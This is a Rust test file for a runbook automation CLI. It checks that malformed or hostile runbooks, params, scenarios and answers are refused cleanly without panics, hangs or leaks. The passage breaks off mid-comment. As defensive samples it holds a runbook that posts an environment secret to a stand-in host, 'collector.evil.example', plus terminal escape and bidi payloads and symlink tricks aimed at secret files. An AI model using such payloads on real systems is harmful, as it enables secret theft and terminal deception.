//! Hostile input: malformed runbooks, answers, scenarios and params each get a clear error
//! and an exit code, never a panic or a hang.

use crate::support::{exits_with, prompts_answered, with_script, Exit, Output, Test};

fn no_panic(out: &Output) {
    assert!(!out.stderr.contains("panicked"), "panic:\n{}", out.stderr);
    assert!(
        out.code == 1 || out.code == 2,
        "exit {}:\n{}",
        out.code,
        out.stderr
    );
}

/// `exec postmark --sandbox --yes`, then `extra`, from the shipped runbooks.
fn rehearsal(extra: &[&str]) -> Test {
    Test::new()
        .rehearse("postmark")
        .args(&["--yes"])
        .args(extra)
}

/// Runs `t`, which must end without a panic ([`no_panic`]).
fn run_safely(t: Test) -> Output {
    let out = t.run();
    no_panic(&out);
    out
}

/// `check NAME`, NAME a runbook of `text`, run safely ([`run_safely`]).
fn check_text(name: &str, text: &str) -> Output {
    run_safely(with_script("check", name, text))
}

#[test]
fn a_ten_megabyte_string_literal_is_refused() {
    // Ten megabytes: over the input file limit, refused before it is read.
    let text = format!(
        "runbook(#{{ id: \"big\", title: \"{}\" }});\n",
        "x".repeat(10 << 20)
    );
    let out = check_text("big.rhai", &text);
    out.exit(Exit::Usage)
        .stderr_has("runbook::limit::file_size");
    // Six: within the file limit, over the engine's string limit, refused where it stands.
    let text = format!(
        "runbook(#{{ id: \"big\", title: \"{}\" }});\n",
        "x".repeat(6 << 20)
    );
    let out = check_text("big.rhai", &text);
    out.exit(Exit::Usage).stderr_has("big.rhai:1:");
}

#[test]
fn deeply_nested_expressions_are_refused_without_overflowing() {
    let depth = 20_000;
    let text = format!(
        "runbook(#{{ id: \"deep\", title: \"t\" }});\nlet x = {}1{};\n",
        "(".repeat(depth),
        ")".repeat(depth)
    );
    let out = check_text("deep.rhai", &text);
    out.exit(Exit::Usage).stderr_has("deep.rhai:2:");
}

#[test]
fn empty_and_binary_files_are_refused() {
    check_text("empty.rhai", "")
        .exit(Exit::Usage)
        .stderr_has("does not declare itself");
    check_text(
        "nul.rhai",
        "runbook(#{ id: \"n\", title: \"t\" });\n\0\0\0\n",
    )
    .exit(Exit::Usage)
    .stderr_has("nul.rhai:2:");
}

#[test]
fn unicode_in_names_gets_a_clear_error() {
    let out = check_text(
        "uni.rhai",
        "runbook(#{ id: \"ünï\", title: \"t\" });\nstep(\"a\", \"A\", |ctx| {});\n",
    );
    out.exit(Exit::Usage)
        .stderr_has("'id' is required: letters, digits");
    let out = check_text(
        "uni2.rhai",
        "runbook(#{ id: \"u\", title: \"t\" });\nstep(\"étape\", \"Ünïcödé 🚀\", |ctx| {});\n",
    );
    out.exit(Exit::Usage)
        .stderr_has("step id 'étape' must be letters, digits, '-' and '_'");
}

exits_with! {
    a_runbook_path_that_is_a_directory_is_refused:
        Test::new().file("dir.rhai/x", "").args(&["exec", "dir.rhai"]) => Usage,
        holds [no_panic];

    deeply_nested_answers_are_refused:
        prompts_answered(
            "nested.json",
            &format!("{{\"a\": {}1{}}}", "[".repeat(100_000), "]".repeat(100_000)),
        ) => Usage,
        holds [no_panic],
        stderr ["nested.json:1:", "malformed answers file"];

    answers_of_the_wrong_type_name_the_prompt:
        prompts_answered(
            "a.toml",
            "prerequisites = true\ncolor = \"green\"\ntoken = \"t-0123456789\"\nproceed = \"maybe\"\n",
        ) => StepFailed,
        holds [no_panic],
        stderr ["answer to prompt 'proceed' is not usable: expected true or false"];
}

#[test]
fn malformed_scenarios_and_faults_are_usage_errors() {
    for (file, text, expect) in [
        ("bad.toml", "[postmark\n", "invalid sandbox scenario"),
        (
            "types.toml",
            "[postmark]\ntoken_limit = \"three\"\n",
            "invalid sandbox scenario",
        ),
        (
            "unknown.toml",
            "[postmark]\nsurprise = 1\n",
            "unknown field",
        ),
    ] {
        run_safely(rehearsal(&[]).scenario(file, text))
            .exit(Exit::Usage)
            .stderr_has(expect);
    }
    run_safely(rehearsal(&["--fault", "postmark:GET:/server=teapot"]))
        .exit(Exit::Usage)
        .stderr_has("invalid fault 'postmark:GET:/server=teapot'");
}

#[test]
fn hostile_params_are_refused_or_reach_the_checks_intact() {
    run_safely(rehearsal(&["--param", "=x"]))
        .exit(Exit::Usage)
        .stderr_has("is not of the form NAME=VALUE");
    run_safely(rehearsal(&["--param", "server_name=raxx-prod\u{202e}🚀"]))
        .exit(Exit::StepFailed)
        // The param reaches the check intact; the terminal sees its override by code point.
        .stderr_has("not 'raxx-prod<U+202E>🚀'");
}

#[test]
fn plain_http_to_a_remote_host_is_refused_and_tls_cannot_be_turned_off() {
    let plain = "runbook(#{ id: \"p\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"http://example.com/\"); });\n";
    run_safely(with_script("exec", "plain.rhai", plain))
        .exit(Exit::StepFailed)
        .stderr_has("plain.rhai:2:30:")
        .stderr_has("http://");
    let insecure = "runbook(#{ id: \"i\", title: \"t\", egress: [\"example.com\"] });\nstep(\"a\", \"A\", |ctx| { http::get(\"https://example.com/\", #{ insecure: true }); });\n";
    run_safely(with_script("exec", "insecure.rhai", insecure))
        .exit(Exit::StepFailed)
        .stderr_has("http::get: unknown option 'insecure'");
}

const FLOAT_PARAM: &str = r#"runbook(#{ id: "ratio", title: "A float param" });
param("ratio", #{ default: 1.5, help: "share of traffic" });
step("show", "Show the ratio", |ctx| {
    ensure(type_of(ctx.params.ratio) == "f64", `ratio is a ${type_of(ctx.params.ratio)}`);
    print(`ratio=${ctx.params.ratio * 2.0}`);
});
"#;

/// ratio.rhai run with `--param ratio=VALUE`.
fn ratio(value: &str) -> Test {
    with_script("exec", "ratio.rhai", FLOAT_PARAM)
        .args(&["--yes", "--param"])
        .arg(format!("ratio={value}"))
}

exits_with! {
    a_float_param_parses_as_a_float: ratio("2.5") => Ok, stdout ["ratio=5.0"];
}

#[test]
fn a_float_param_refuses_words_and_infinities_echoing_little() {
    for bad in ["many", "inf", "NaN"] {
        let out = ratio(bad).run();
        out.exit(Exit::Usage).stderr_has(&format!(
            "param 'ratio' expects a number such as 2.5; the value given ({} characters) is not one",
            bad.len()
        ));
        assert!(!out.stderr.contains(&format!("'{bad}'")), "{}", out.stderr);
    }
    // A single argument is capped at 128 KiB by the kernel.
    let long = "9".repeat(100_000);
    let out = with_script("exec", "prompts.rhai", "runbook(#{ id: \"n\", title: \"t\" });\nparam(\"n\", #{ default: 3 });\nstep(\"s\", \"S\", |ctx| {});\n")
        .args(&["--yes", "--param", &format!("n=x{long}")])
        .run();
    out.exit(Exit::Usage);
    assert!(
        out.stderr.len() < 2_000,
        "a 100 KB value was echoed whole: {} bytes",
        out.stderr.len()
    );
}

exits_with! {
    // Forty `**` that never match: backtracking spun on every request of the rotation.
    a_fault_pattern_of_many_wildcards_does_not_spin:
        rehearsal(&["--fault", &format!("postmark:GET:/{}nowhere=503", "**".repeat(40))]) => Ok,
        stdout ["succeeded"];
}

#[test]
fn a_malformed_scenario_names_its_line_not_its_text() {
    let canary = "pm-canary-scenario-0123456789";
    let out = run_safely(rehearsal(&[]).unscanned().scenario(
        "bad.toml",
        &format!("[postmark]\ncurrent_token = \"{canary}\n"),
    ));
    out.exit(Exit::Usage)
        .stderr_has("invalid sandbox scenario")
        .stderr_has("bad.toml: line 2: ");
    out.assert_absent(canary);
}

#[test]
fn a_top_level_that_never_returns_does_not_hang_list_check_or_show() {
    // Before: `list`, `due`, `check` and `show` ran the top level unbounded and never ended.
    let sleeper = r#"runbook(#{ id: "sleeper", title: "Sleeps at load" });
loop { time::sleep(600); }
"#;
    // Each command in a directory of its own, all at once: each waits out the 5 s limit.
    let run = |args: &'static [&'static str]| {
        std::thread::spawn(move || {
            Test::new()
                .file("runbooks/sleeper.rhai", sleeper)
                .args(args)
                .run()
        })
    };
    let (show, check, list, due) = (
        run(&["show", "sleeper"]),
        run(&["check", "runbooks/sleeper.rhai"]),
        run(&["list"]),
        run(&["due"]),
    );
    let out = show.join().unwrap();
    no_panic(&out);
    out.stderr_has("runbook::timeout")
        .stderr_has("sleeper.rhai ran past its limit of 5s")
        .stderr_has("move work into a step");
    let out = check.join().unwrap();
    no_panic(&out);
    out.stderr_has("sleeper.rhai ran past its limit of 5s");
    let out = list.join().unwrap();
    out.exit(Exit::Ok)
        .stderr_has(" does not load: ")
        .stderr_has("sleeper.rhai ran past its limit of 5s");
    let out = due.join().unwrap();
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    assert!(
        format!("{}{}", out.stdout, out.stderr).contains("sleeper.rhai ran past its limit of 5s"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
}

#[test]
fn a_step_that_outlives_its_timeout_fails_and_sleep_cannot_escape_it() {
    let runbook = r#"runbook(#{ id: "slow", title: "Slow step" });
step("spin", "Sleeps forever", |ctx| {
    loop { time::sleep(1); }
}).timeout("2s");
"#;
    let out = with_script("exec", "slow.rhai", runbook)
        .args(&["--yes"])
        .run();
    out.exit(Exit::StepFailed)
        .stderr_has("runbook::timeout")
        .stderr_has("step 'spin' ran past its limit of 2s")
        .stderr_has(".timeout(\"30m\")");
    let bad = r#"runbook(#{ id: "bad", title: "Bad timeout" });
step("s", "S", |ctx| {}).timeout("soon");
"#;
    let out = run_safely(with_script("check", "bad.rhai", bad));
    out.stderr_has(".timeout(\"soon\"): not a duration between 1s and 24h");
}

#[test]
fn imports_refuse_fifos_and_links_out_of_the_folder() {
    let t = Test::new()
        .file(
            "runbooks/fifo.rhai",
            "import \"pipe\" as p;\nrunbook(#{ id: \"fifo\", title: \"FIFO\" });\nstep(\"s\", \"S\", |ctx| {});\n",
        )
        .file(
            "runbooks/link.rhai",
            "import \"outside\" as o;\nrunbook(#{ id: \"link\", title: \"Link\" });\nstep(\"s\", \"S\", |ctx| {});\n",
        )
        .file("elsewhere/secret.txt", "TOPSECRET-FIRST-LINE = 1\n");
    let dir = t.path().to_path_buf();
    let made = std::process::Command::new("mkfifo")
        .arg(dir.join("runbooks/pipe.rhai"))
        .status()
        .unwrap();
    assert!(made.success());
    std::os::unix::fs::symlink(
        dir.join("elsewhere/secret.txt"),
        dir.join("runbooks/outside.rhai"),
    )
    .unwrap();
    // Before: the FIFO blocked `show` forever; the link's target's first line was shown.
    let out = run_safely(t.args(&["show", "fifo"]));
    out.stderr_has("pipe.rhai is not a regular file");
    let out = run_safely(out.next().args(&["check", "runbooks/link.rhai"]));
    out.stderr_has("it is a link that leads outside the runbook's folder");
    assert!(!out.stderr.contains("TOPSECRET"), "{}", out.stderr);
    assert!(!out.stdout.contains("TOPSECRET"), "{}", out.stdout);
    // A FIFO given as the runbook itself is not taken for one (and not read).
    let out = run_safely(out.next().args(&["exec", "runbooks/pipe.rhai"]));
    out.stderr_has("no runbook named 'runbooks/pipe.rhai'");
    // Nor as an answers file.
    let out = run_safely(
        out.next()
            .args(&["exec", "link", "--answers", "runbooks/pipe.rhai"]),
    );
    out.stderr_has("it is not a regular file");
}

/// A server on loopback that answers every request with `size` bytes, announced or chunked.
fn huge_answer_server(size: usize, chunked: bool) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { return };
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let head = if chunked {
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_string()
            } else {
                format!("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {size}\r\n\r\n")
            };
            if s.write_all(head.as_bytes()).is_err() {
                continue;
            }
            let block = vec![b'x'; 64 * 1024];
            let mut sent = 0;
            while sent < size {
                let n = block.len().min(size - sent);
                let ok = if chunked {
                    s.write_all(format!("{n:x}\r\n").as_bytes())
                        .and_then(|_| s.write_all(&block[..n]))
                        .and_then(|_| s.write_all(b"\r\n"))
                } else {
                    s.write_all(&block[..n])
                };
                if ok.is_err() {
                    break;
                }
                sent += n;
            }
            if chunked {
                let _ = s.write_all(b"0\r\n\r\n");
            }
        }
    });
    format!("http://{addr}")
}

#[test]
fn a_huge_response_is_refused_not_read_whole() {
    let runbook = r#"runbook(#{ id: "big", title: "Big answer" });
param("url", #{ help: "where" });
step("get", "Read a huge answer", |ctx| {
    let r = http::get(`${ctx.params.url}/big`);
    print(`read ${r.body.len()} bytes`);
});
"#;
    for chunked in [false, true] {
        let url = huge_answer_server(3 << 20, chunked);
        let out = with_script("exec", "big.rhai", runbook)
            .env("RUNBOOK_MAX_RESPONSE_MB", "1")
            .args(&["--yes", "--param", &format!("url={url}")])
            .run();
        out.exit(Exit::StepFailed)
            .stderr_has("the answer is larger than 1 MiB, the most runbook reads")
            .stderr_has("raise RUNBOOK_MAX_RESPONSE_MB");
        assert!(!out.stdout.contains("read "), "{}", out.stdout);
    }
    let out = run_safely(
        with_script("exec", "big.rhai", runbook)
            .env("RUNBOOK_MAX_RESPONSE_MB", "lots")
            .args(&["--yes", "--param", "url=http://127.0.0.1:9"]),
    );
    out.stderr_has("RUNBOOK_MAX_RESPONSE_MB");
}

#[test]
fn escape_sequences_from_titles_prints_errors_and_actors_are_shown_not_obeyed() {
    // Before: they reached the terminal raw (clear screen, retitle, cursor moves).
    let runbook = "runbook(#{ id: \"esc\", title: \"Esc \\x1b]0;pwned\\x07 title\" });\n\
step(\"s\", \"Step \\x1b[2J\", |ctx| {\n\
    print(\"before\\x1b[2J\\x1b[Hfake all clear\\rover\");\n\
    fail(\"vendor said \\x1b[31mred\\x1b]52;c;cHduZWQ=\\x07\");\n\
});\n";
    // An actor name with an escape is refused, and the refusal names it without sending it.
    let refused = with_script("exec", "esc.rhai", runbook)
        .args(&["--yes", "--actor", "ops\u{1b}[8m"])
        .run();
    refused.exit(Exit::Usage).stderr_has("U+001B");
    assert!(!refused.stderr.contains('\u{1b}'), "{:?}", refused.stderr);
    let out = refused.next().args(&["exec", "esc.rhai", "--yes"]).run();
    out.exit(Exit::StepFailed);
    for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(!text.contains('\u{1b}'), "ESC in {name}:\n{text:?}");
        assert!(!text.contains('\u{7}'), "BEL in {name}:\n{text:?}");
        assert!(!text.contains("\rover"), "CR in {name}:\n{text:?}");
    }
    out.stdout_has("␛[2J␛[Hfake all clear␍over");
    out.stderr_has("vendor said ␛[31mred␛]52;c;cHduZWQ=␇");
    let runs = out.next().args(&["runs"]).run();
    assert!(!runs.stdout.contains('\u{1b}'), "{:?}", runs.stdout);
}

#[test]
fn a_huge_identifier_is_not_echoed_whole() {
    let name = "a".repeat(100_000);
    let runbook = format!(
        "runbook(#{{ id: \"long\", title: \"Long\" }});\nstep(\"s\", \"S\", |ctx| {{ {name}(); }});\n"
    );
    let out = run_safely(with_script("exec", "long.rhai", &runbook).args(&["--yes"]));
    out.stderr_has("more characters not shown");
    assert!(out.stderr.len() < 20_000, "{} bytes", out.stderr.len());
    let out = run_safely(out.next().args(&["exec", &name]));
    out.stderr_has("more characters not shown");
    assert!(out.stderr.len() < 20_000, "{} bytes", out.stderr.len());
}

#[test]
fn deeply_nested_values_are_refused_not_a_stack_overflow() {
    // Before: a 15,000-deep array stored in ctx aborted the process (exit 134). Just past
    // the engine's 10,000 elements is enough (building it is quadratic: rhai sizes the whole
    // array at every step).
    let runbook = r#"runbook(#{ id: "deep", title: "Deep values" });
param("depth", #{ default: 10050, help: "how deep" });
step("s", "Nest", |ctx| {
    let a = [];
    for i in 0..ctx.params.depth { a = [a]; }
    ctx.deep = a;
});
"#;
    let out = with_script("exec", "deep.rhai", runbook)
        .args(&["--yes"])
        .run();
    out.exit(Exit::StepFailed)
        .stderr_has("runbook::script::too_large");
    // Within rhai's limits but deeper than a journal can hold: refused where it is stored.
    let out = out
        .next()
        .args(&["exec", "deep.rhai", "--yes", "--param", "depth=200"])
        .run();
    out.exit(Exit::StepFailed)
        .stderr_has("ctx.deep is nested more than 110 levels deep")
        .stderr_has("keep flat records in ctx");
    let out = out
        .next()
        .args(&["exec", "deep.rhai", "--yes", "--param", "depth=100"])
        .run();
    out.exit(Exit::Ok);
    // Just past the limit, where the journal line would have been deeper than a reader
    // takes: refused, and the journals all read back.
    let out = out
        .next()
        .args(&["exec", "deep.rhai", "--yes", "--param", "depth=125"])
        .run();
    out.exit(Exit::StepFailed)
        .stderr_has("ctx.deep is nested more than 110 levels deep");
    let runs = out.next().args(&["runs"]).run();
    runs.exit(Exit::Ok);
    assert!(!runs.stderr.contains("warning"), "{}", runs.stderr);
}

/// An audit context nested about 125 levels deep (before: accepted, then the log no longer
/// read as JSON and every later append failed): its deepest levels are cut to a marker, the
/// log verifies, and the next entry is appended.
#[test]
fn a_deeply_nested_audit_context_keeps_the_log_readable() {
    let runbook = r#"runbook(#{ id: "deep-audit", title: "Deep audit context" });
step("s", "Log", |ctx| {
    let m = #{};
    for i in 0..125 { m = #{ inner: m }; }
    audit::log("deep.context", #{ doc: m });
    audit::log("after.deep", #{ ok: true });
});
"#;
    let out = with_script("exec", "deep-audit.rhai", runbook)
        .args(&["--yes"])
        .run();
    out.exit(Exit::Ok);
    assert!(!out.audited("after.deep").is_empty());
    let deep = out.audited("deep.context");
    assert!(deep[0]
        .to_string()
        .contains("nested deeper than 110 levels"));
    out.next().args(&["audit", "verify"]).run().exit(Exit::Ok);
}

#[test]
fn http_to_an_undeclared_host_is_refused_before_anything_is_sent() {
    // A runbook that tries to send a secret somewhere it never declared.
    let runbook = r#"runbook(#{ id: "exfil", title: "Exfiltrates", egress: ["api.vendor.example", "param:app_url"] });
param("app_url", #{ default: "https://app.example.org:8443", help: "the app" });
step("send", "Send", |ctx| {
    let key = secret::from_env("THE_KEY");
    http::post("https://collector.evil.example/drop", #{ json: #{ k: key } });
}).no_undo("a test");
"#;
    let out = with_script("exec", "exfil.rhai", runbook)
        .env("THE_KEY", "egress-secret-77aa88bb")
        .args(&["--yes"])
        .run();
    out.exit(Exit::StepFailed)
        .stdout_has("egress: api.vendor.example, app.example.org:8443 · loopback")
        .stderr_has("runbook::egress::undeclared")
        .stderr_has("http::post: collector.evil.example is not in this runbook's egress (it declares api.vendor.example, app.example.org:8443); nothing was sent")
        .stderr_has("egress: [\"collector.evil.example\"]");
    out.assert_absent("egress-secret-77aa88bb");
    let show = out.next().args(&["show", "exfil.rhai"]).run();
    show.exit(Exit::Ok)
        .stdout_has("egress: api.vendor.example, the host of param app_url · loopback");
    let bad = r#"runbook(#{ id: "bad", title: "Bad", egress: ["param:nope"] });
step("s", "S", |ctx| {});
"#;
    let out = run_safely(
        show.next()
            .file("bad.rhai", bad)
            .args(&["check", "bad.rhai"]),
    );
    out.stderr_has("egress names param:nope, which the runbook does not declare");
}

/// A runbook that imports itself, two modules that import each other, or imports nested
/// past the limit: an error naming the cycle or the chain, in every command that loads
/// runbooks. Before: a stack overflow (abort) in `check`, `show`, `exec`, `list` and `due`.
#[test]
fn import_cycles_and_deep_imports_are_named_not_a_stack_overflow() {
    let step = "runbook(#{ id: \"ID\", title: \"T\" });\nstep(\"s\", \"S\", |ctx| {});\n";
    let mut t = Test::new()
        .file(
            "runbooks/selfish.rhai",
            &format!(
                "import \"selfish\" as me;\n{}",
                step.replace("ID", "selfish")
            ),
        )
        .file(
            "runbooks/ping.rhai",
            &format!("import \"pong\" as p;\n{}", step.replace("ID", "ping")),
        )
        .file(
            "runbooks/pong.rhai",
            "import \"ping\" as p;\nfn pong() { 1 }\n",
        )
        .file(
            "runbooks/deep.rhai",
            &format!("import \"d1\" as d;\n{}", step.replace("ID", "deep")),
        );
    for i in 1..=20 {
        t = t.file(
            &format!("runbooks/d{i}.rhai"),
            &format!("import \"d{}\" as m;\nfn f{i}() {{ 1 }}\n", i + 1),
        );
    }
    let t = t.file("runbooks/d21.rhai", "fn f21() { 1 }\n");
    let out = run_safely(t.args(&["check", "runbooks/selfish.rhai"]));
    out.stderr_has("runbook::script::import_cycle")
        .stderr_has("an import cycle: runbooks/selfish.rhai → runbooks/selfish.rhai");
    let out = run_safely(out.next().args(&["show", "ping"]));
    out.stderr_has("runbook::script::import_cycle")
        .stderr_has("ping.rhai → runbooks/pong.rhai → runbooks/ping.rhai")
        .stderr_has("move what both need into a third module");
    let out = run_safely(out.next().args(&["exec", "ping", "--sandbox", "--yes"]));
    out.stderr_has("an import cycle: ");
    let out = run_safely(out.next().args(&["check", "runbooks/deep.rhai"]));
    out.stderr_has("runbook::script::import_depth")
        .stderr_has("runbooks/d16.rhai → runbooks/d17.rhai (at most 16 levels)");
    let out = out.next().args(&["list"]).run();
    out.exit(Exit::Ok)
        .stderr_has("selfish.rhai does not load: ")
        .stderr_has("an import cycle: ")
        .stderr_has("imports nest too deep: ");
    let out = out.next().args(&["due"]).run();
    assert!(!out.stderr.contains("overflow"), "{}", out.stderr);
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
}

/// Bidirectional overrides and isolates (the "Trojan Source" trick) and zero-width
/// characters in a title, a step's output, a failure and a question are shown by code
/// point, never printed raw. Before: they reached the terminal as they were.
#[test]
fn bidi_and_invisible_characters_are_shown_by_code_point() {
    let runbook = "runbook(#{ id: \"bidi\", title: \"Rotate \\u202Enimda\\u202C key\" });\n\
step(\"s\", \"Step \\u2066one\\u2069\", |ctx| {\n\
    print(\"ok\\u200Bay\");\n\
    let go = prompt::confirm(\"Proceed \\u202E?\");\n\
    fail(\"vendor said \\uFEFFno\\u200F\");\n\
});\n";
    let out = with_script("exec", "bidi.rhai", runbook)
        .args(&["--yes"])
        .run();
    out.exit(Exit::StepFailed);
    for (name, text) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        for c in [
            '\u{202E}', '\u{202C}', '\u{2066}', '\u{2069}', '\u{200B}', '\u{FEFF}', '\u{200F}',
        ] {
            assert!(!text.contains(c), "U+{:04X} in {name}:\n{text}", c as u32);
        }
    }
    out.stdout_has("Rotate <U+202E>nimda<U+202C> key")
        .stdout_has("Step <U+2066>one<U+2069>")
        .stdout_has("ok<U+200B>ay")
        .stderr_has("vendor said <U+FEFF>no<U+200F>");
    // JSON keeps the data, as escapes a parser reads back and a person sees.
    let json = out
        .next()
        .args(&["exec", "bidi.rhai", "--yes", "--json"])
        .run();
    assert!(!json.stdout.contains('\u{202E}'), "{}", json.stdout);
    assert!(json.stdout.contains("\\u202e"), "{}", json.stdout);
    let titled = json
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find_map(|v| v["title"].as_str().map(str::to_string))
        .unwrap();
    assert!(
        titled.contains('\u{202E}') || titled.contains('\u{2066}'),
        "{titled}"
    );
    // An entry a runbook logs (a vendor's value in it), exported to the terminal, shows
    // them as escapes too (a cold review found an 8-bit CSI and an override raw there); the
    // entry reads back as it was.
    let logged = "runbook(#{ id: \"log\", title: \"Log\" });\n\
step(\"s\", \"S\", |ctx| { audit::log(\"vendor.read\", #{ name: \"a\\u009B2Jb \\u202Eevil\" }); });\n";
    let export = json
        .next()
        .file("log.rhai", logged)
        .args(&["exec", "log.rhai", "--yes"])
        .run()
        .next()
        .args(&["audit", "export"])
        .run();
    export.exit(Exit::Ok);
    for c in ['\u{202E}', '\u{9B}'] {
        assert!(
            !export.stdout.contains(c),
            "U+{:04X}:\n{}",
            c as u32,
            export.stdout
        );
    }
    let entry = export
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["action"] == "vendor.read")
        .unwrap();
    assert_eq!(entry["context"]["name"], "a\u{9B}2Jb \u{202E}evil");
}

/// State is never kept through a link: a `runs/` or `locks/` folder, the state folder
/// itself, or the REPL's history that is a symbolic link is refused with a clear error, and
/// nothing is written where the link points. Before: journals, locks and the history were
/// written through them.
#[test]
fn state_folders_and_the_history_are_never_followed_through_links() {
    let script = "runbook(#{ id: \"t\", title: \"T\", secret: \"T_KEY\" });\nstep(\"a\", \"A\", |ctx| { print(\"ran\"); });\n";
    let t = with_script("exec", "t.rhai", script).args(&["--sandbox", "--yes"]);
    let dir = t.path().to_path_buf();
    let elsewhere = dir.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::create_dir_all(dir.join("state")).unwrap();
    let listing = |p: &std::path::Path| std::fs::read_dir(p).unwrap().count();
    for folder in ["runs", "locks"] {
        let link = dir.join("state").join(folder);
        let _ = std::fs::remove_dir_all(&link);
        std::os::unix::fs::symlink(&elsewhere, &link).unwrap();
        let out = run_safely(Test::in_dir(&dir).args(&["exec", "t.rhai", "--sandbox", "--yes"]));
        out.stderr_has(&format!(
            "{} is a symbolic link; runbook does not keep state through links",
            link.display()
        ));
        assert!(!out.stdout.contains("ran"), "{}", out.stdout);
        assert_eq!(listing(&elsewhere), 0, "written through the {folder} link");
        if folder == "runs" {
            run_safely(Test::in_dir(&dir).args(&["runs"])).stderr_has("is a symbolic link");
        }
        std::fs::remove_file(&link).unwrap();
    }
    // The state folder itself.
    let real = dir.join("real-state");
    std::fs::create_dir_all(&real).unwrap();
    std::os::unix::fs::symlink(&real, dir.join("linked-state")).unwrap();
    let out = run_safely(
        Test::in_dir(&dir)
            .args(&["exec", "t.rhai", "--sandbox", "--yes"])
            .env(
                "RUNBOOK_STATE_DIR",
                &dir.join("linked-state").to_string_lossy(),
            ),
    );
    out.stderr_has("linked-state is a symbolic link");
    assert_eq!(listing(&real), 0);
    // The REPL's history: a warning, the session goes on, the target is untouched.
    let target = elsewhere.join("stolen_history");
    std::fs::write(&target, "").unwrap();
    std::os::unix::fs::symlink(&target, dir.join("state/repl_history")).unwrap();
    let repl = Test::in_dir(&dir)
        .args(&["repl", "t.rhai", "--sandbox"])
        .stdin("print(\"hello\");\n")
        .run();
    repl.exit(Exit::Ok);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "");
}

/// A lock key is the secret as the vendor sees it: `/` and `//` are one Infisical folder,
/// and a case-insensitive name in another case is one name, so a second run of the same
/// secret written differently is refused while the first holds the lock. Before: two locks,
/// two concurrent rotations of one secret.
#[test]
fn lock_keys_compare_values_as_the_vendor_does() {
    let script = r#"runbook(#{ id: "locked", title: "Locked", secret: "L_KEY" });
param("secret_path", #{ locates: "path", default: "/" });
param("user", #{ locates: "case-insensitive", default: "CI-Deployer" });
param("window", #{ default: "1h" });
step("hold", "Holds the lock", |ctx| { print("holding"); })
    .approval(#{ timeout: "60s" });
"#;
    // `t` owns the directory: it lives until the end of the test.
    let t = with_script("exec", "locked.rhai", script).args(&[
        "--sandbox",
        "--yes",
        "--actor",
        "alice",
    ]);
    let dir = t.path().to_path_buf();
    let first = t.spawn();
    let approvals = dir.join("state/approvals");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while std::fs::read_dir(&approvals)
        .map(|d| d.count())
        .unwrap_or(0)
        == 0
    {
        assert!(
            std::time::Instant::now() < deadline,
            "the first run never held the lock"
        );
        std::thread::yield_now();
    }
    for params in [
        ["secret_path=//", "user=CI-Deployer"],
        ["secret_path=/./", "user=ci-deployer"],
        ["secret_path=/", "user= CI-DEPLOYER"],
    ] {
        let mut args = vec![
            "exec",
            "locked.rhai",
            "--sandbox",
            "--yes",
            "--actor",
            "bob",
        ];
        for p in params {
            args.extend(["--param", p]);
        }
        let out = run_safely(Test::in_dir(&dir).args(&args));
        out.stderr_has("this rotation is already running");
        assert!(
            !out.stdout.contains("holding"),
            "{params:?}: {}",
            out.stdout
        );
    }
    // A param that does not locate the secret does not make another secret.
    let out = run_safely(Test::in_dir(&dir).args(&[
        "exec",
        "locked.rhai",
        "--sandbox",
        "--yes",
        "--param",
        "window=2h",
    ]));
    out.stderr_has("this rotation is already running");
    let mut first = first;
    let _ = first.kill();
    let _ = first.wait();
}

/// A value that fails to parse is never repeated in the error: it may be a secret given in
/// the wrong place. Errors name the field and the expected type. Before: a param, a number
/// parsed in a step, a scenario and an answers file each echoed the value.
#[test]
fn a_value_that_does_not_parse_is_never_echoed() {
    let canary = "pm-canary-notanumber-7f3a";
    let param = "runbook(#{ id: \"n\", title: \"t\" });\nparam(\"n\", #{ default: 3 });\nstep(\"s\", \"S\", |ctx| {});\n";
    let out = run_safely(with_script("exec", "n.rhai", param).unscanned().args(&[
        "--yes",
        "--param",
        &format!("n={canary}"),
    ]));
    out.stderr_has("param 'n' expects a whole number");
    out.assert_absent(canary);

    let parsing = "runbook(#{ id: \"p\", title: \"t\" });\nstep(\"s\", \"S\", |ctx| { let v = ctx.params.v; parse_int(v); });\nparam(\"v\", #{ default: \"x\" });\n";
    let out = run_safely(with_script("exec", "p.rhai", parsing).unscanned().args(&[
        "--yes",
        "--param",
        &format!("v={canary}"),
    ]));
    out.stderr_has("runbook::script::arithmetic")
        .stderr_has("Error parsing integer number (a value, not shown)");
    // The param itself is recorded with the run (it is not declared secret); the failure
    // never repeats it.
    assert!(!out.stdout.contains(canary) && !out.stderr.contains(canary));
    let failure = out
        .journal()
        .lines()
        .filter(|l| l.contains("\"step_failed\"") || l.contains("\"error\""))
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        !failure.is_empty() && !failure.contains(canary),
        "{failure}"
    );

    let out = run_safely(rehearsal(&[]).unscanned().scenario(
        "typed.toml",
        &format!("[heroku]\nrate_limit = {{ capacity = \"{canary}\" }}\n"),
    ));
    out.stderr_has("typed.toml: line 2: invalid type: a string, expected u32");
    out.assert_absent(canary);

    let out = run_safely(rehearsal(&[]).unscanned().scenario(
        "typed.json",
        &format!("{{\"heroku\": {{\"rate_limit\": {{\"capacity\": \"{canary}\"}}}}}}"),
    ));
    out.stderr_has("invalid type: a string, expected u32");
    out.assert_absent(canary);
}

/// A secret param given with `--param` is on the command line, which every user of the
/// machine can read (`ps`) while the run lasts (cold review: taken without a word). The run
